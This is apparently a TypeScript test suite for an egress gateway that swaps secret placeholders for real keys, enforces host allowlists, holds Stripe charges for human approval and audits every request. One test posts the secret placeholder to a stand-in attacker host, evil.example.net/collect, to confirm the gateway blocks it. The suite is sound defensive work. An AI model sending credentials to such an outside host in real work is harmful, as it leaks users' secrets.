import { expect } from 'chai';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ProxyAgent, request } from 'undici';
import { startTestService, type TestService } from '../helpers/service.js';
import { startFakeUpstream, type FakeUpstream } from '../helpers/upstream.js';

const STRIPE_KEY = 'sk_live_51RealStripeKeyNeverSeenByTheVm';

/**
 * The gateway end to end inside the service: environment, secret, policy, proxy, approval
 * round-trip through the API, grants and the audit log. The upstream is a local HTTPS
 * server reached through GATEWAY_UPSTREAM_OVERRIDES and trusted through
 * GATEWAY_UPSTREAM_CA_FILE, as an operator would point the gateway at a staging API.
 */
describe('gateway (service level)', function () {
  this.timeout(30000);
  let t: TestService;
  let up: FakeUpstream;
  let dir: string;
  let env: { id: string };
  let gateway: { proxy_url: string; ca_cert_pem: string };
  let placeholder: string;

  before(async () => {
    up = await startFakeUpstream();
    dir = mkdtempSync(join(tmpdir(), 'gw-gateway-'));
    writeFileSync(join(dir, 'upstream-ca.pem'), up.ca.certPem);
    t = await startTestService({
      GATEWAY_UPSTREAM_OVERRIDES: `api.stripe.com=127.0.0.1:${up.port},evil.example.net=127.0.0.1:${up.port}`,
      GATEWAY_UPSTREAM_CA_FILE: join(dir, 'upstream-ca.pem'),
    });
    const created = await t.api.post('/v1/environments', {
      end_user_id: 'gateway-user',
      egress_allow: ['api.stripe.com', 'evil.example.net'],
      secrets: { STRIPE_KEY: { value: STRIPE_KEY, allowed_hosts: ['api.stripe.com'] } },
    });
    expect(created.status).to.equal(201);
    env = created.body;
    const g = await t.api.get(`/v1/environments/${env.id}/gateway`);
    expect(g.status).to.equal(200);
    gateway = g.body;
    const list = await t.api.get(`/v1/environments/${env.id}/secrets`);
    placeholder = list.body.data[0].placeholder;
  });
  after(async () => {
    await t.close();
    await up.close();
    rmSync(dir, { recursive: true, force: true });
  });
  beforeEach(() => {
    up.seen.length = 0;
  });

  function agent(proxyUrl = gateway.proxy_url) {
    const u = new URL(proxyUrl);
    const token = `Basic ${Buffer.from(`${decodeURIComponent(u.username)}:${decodeURIComponent(u.password)}`).toString('base64')}`;
    return new ProxyAgent({ uri: `${u.protocol}//${u.host}`, token, requestTls: { ca: gateway.ca_cert_pem } });
  }
  const stripe = (path: string, init: { method?: string; body?: string; headers?: Record<string, string> } = {}) =>
    request(`https://api.stripe.com${path}`, {
      dispatcher: agent(),
      method: (init.method ?? 'GET') as 'GET',
      body: init.body,
      headers: { authorization: `Bearer ${placeholder}`, ...(init.body ? { 'content-type': 'application/x-www-form-urlencoded' } : {}), ...init.headers },
    });

  async function pendingApproval(): Promise<{ id: string; summary: string; max_scope: string; task_id: string | null }> {
    for (let i = 0; i < 100; i++) {
      const r = await t.api.get(`/v1/approvals?status=pending&environment_id=${env.id}`);
      if (r.body.data.length > 0) return r.body.data[0];
      await new Promise((res) => setTimeout(res, 20));
    }
    throw new Error('no pending approval appeared');
  }

  it('GET /gateway gives the proxy URL with this environment\'s credentials and the CA; 404 for another developer', async () => {
    const u = new URL(gateway.proxy_url);
    expect(u.username).to.equal(env.id);
    expect(u.password).to.have.length.greaterThan(20);
    expect(gateway.ca_cert_pem).to.match(/^-----BEGIN CERTIFICATE-----/);
    const other = await t.otherDeveloper();
    expect((await other.get(`/v1/environments/${env.id}/gateway`)).status).to.equal(404);
  });

  it('407 with wrong proxy credentials', async () => {
    const u = new URL(gateway.proxy_url);
    u.password = 'wrong';
    let err: unknown;
    try {
      await request('https://api.stripe.com/v1/balance', { dispatcher: agent(u.toString()) });
    } catch (e) {
      err = e;
    }
    expect(String(err)).to.match(/407/);
  });

  it('no rule for a read with a secret: 403 policy_denied (no_rule); an allow rule lets it through with the real key', async () => {
    const denied = await stripe('/v1/balance');
    expect(denied.statusCode).to.equal(403);
    expect(denied.headers['x-gateway-error']).to.equal('policy_denied');
    await denied.body.text();
    expect(up.seen).to.have.length(0);

    expect((await t.api.put('/v1/policy', { rules: [{ connector: 'secret:STRIPE_KEY', category: 'read', effect: 'allow' }] })).status).to.equal(200);
    const ok = await stripe('/v1/balance', { headers: { 'x-service-task-id': 't1', 'x-service-session-id': 's1' } });
    expect(ok.statusCode).to.equal(200);
    await ok.body.text();
    expect(up.seen[0]!.headers.authorization).to.equal(`Bearer ${STRIPE_KEY}`);
    expect(up.seen[0]!.headers).to.not.have.property('x-service-task-id');
    expect(up.seen[0]!.headers).to.not.have.property('x-service-session-id');
  });

  it('a placeholder sent to another host is blocked (403 secret_host_not_allowed) and never reaches it', async () => {
    const r = await request('https://evil.example.net/collect', { dispatcher: agent(), method: 'POST', body: `k=${placeholder}`, headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect(r.statusCode).to.equal(403);
    expect(r.headers['x-gateway-error']).to.equal('secret_host_not_allowed');
    await r.body.text();
    expect(up.seen).to.have.length(0);
  });

  it('a host off the allowlist is 403 egress_denied', async () => {
    const r = await request('https://elsewhere.example.org/', { dispatcher: agent() });
    expect(r.statusCode).to.equal(403);
    expect(r.headers['x-gateway-error']).to.equal('egress_denied');
    await r.body.text();
  });

  it('a payment is held live until approved through the API, then forwarded with the real key', async () => {
    const held = stripe('/v1/charges', { method: 'POST', body: 'amount=2000&currency=usd', headers: { 'x-service-task-id': 'task-9' } });
    const approval = await pendingApproval();
    expect(approval.summary).to.equal('POST api.stripe.com /v1/charges');
    expect(approval.max_scope).to.equal('permanent');
    expect(approval.task_id).to.equal('task-9');
    expect(up.seen).to.have.length(0);
    const d = await t.api.post(`/v1/approvals/${approval.id}/decision`, { decision: 'approve', scope: { kind: 'task', task_id: 'task-9' } });
    expect(d.status).to.equal(200);
    const r = await held;
    expect(r.statusCode).to.equal(200);
    await r.body.text();
    expect(up.seen).to.have.length(1);
    expect(up.seen[0]!.body.toString()).to.equal('amount=2000&currency=usd');
    expect(up.seen[0]!.headers.authorization).to.equal(`Bearer ${STRIPE_KEY}`);

    // The task grant covers the same task at once; another task asks again.
    const again = await stripe('/v1/charges', { method: 'POST', body: 'amount=1', headers: { 'x-service-task-id': 'task-9' } });
    expect(again.statusCode).to.equal(200);
    await again.body.text();
    const other = stripe('/v1/charges', { method: 'POST', body: 'amount=1', headers: { 'x-service-task-id': 'task-10' } });
    const second = await pendingApproval();
    expect(second.task_id).to.equal('task-10');
    expect((await t.api.post(`/v1/approvals/${second.id}/decision`, { decision: 'deny' })).status).to.equal(200);
    const deniedRes = await other;
    expect(deniedRes.statusCode).to.equal(403);
    expect(deniedRes.headers['x-gateway-error']).to.equal('approval_denied');
    await deniedRes.body.text();
  });

  it('an approval nobody decides expires: 403 approval_expired once the clock passes 10 minutes', async () => {
    const held = stripe('/v1/refunds', { method: 'POST', body: 'charge=ch_1' });
    await pendingApproval();
    await t.advance(601);
    const r = await held;
    expect(r.statusCode).to.equal(403);
    expect(r.headers['x-gateway-error']).to.equal('approval_expired');
    await r.body.text();
  });

  it('the management API is not reachable through the gateway', async () => {
    await t.api.put(`/v1/environments/${env.id}/egress`, { allow: ['*'] });
    try {
      const r = await request(`${t.url}/v1/environments`, { dispatcher: agent(), headers: { authorization: `Bearer ${t.api.key}` } });
      expect(r.statusCode).to.equal(403);
      expect(r.headers['x-gateway-error']).to.equal('egress_denied');
      await r.body.text();
    } finally {
      await t.api.put(`/v1/environments/${env.id}/egress`, { allow: ['api.stripe.com', 'evil.example.net'] });
    }
  });

  it('every request is audited, the chain verifies, and no secret or placeholder is in the audit table', async () => {
    await t.svc.audit.flush();
    const log = await t.api.get(`/v1/audit-log?environment_id=${env.id}&limit=200`);
    expect(log.status).to.equal(200);
    const reasons = log.body.data.map((e: { reason: string }) => e.reason);
    expect(reasons).to.include.members(['no_rule', 'rule', 'secret_host_not_allowed', 'egress_denied', 'high_risk', 'grant']);
    const verify = await t.api.get('/v1/audit-log/verify');
    expect(verify.body.ok).to.equal(true);
    const rows = JSON.stringify(await t.svc.db('audit_log').select());
    expect(rows).to.not.include(STRIPE_KEY);
    expect(rows).to.not.include(placeholder);
  });

  it('a destroyed environment\'s proxy credentials stop working', async () => {
    const saved = gateway.proxy_url;
    expect((await t.api.delete(`/v1/environments/${env.id}`)).status).to.equal(200);
    let err: unknown;
    try {
      await request('https://api.stripe.com/v1/balance', { dispatcher: agent(saved) });
    } catch (e) {
      err = e;
    }
    expect(String(err)).to.match(/407/);
    expect((await t.api.get(`/v1/environments/${env.id}/gateway`)).status).to.equal(409);
  });
});
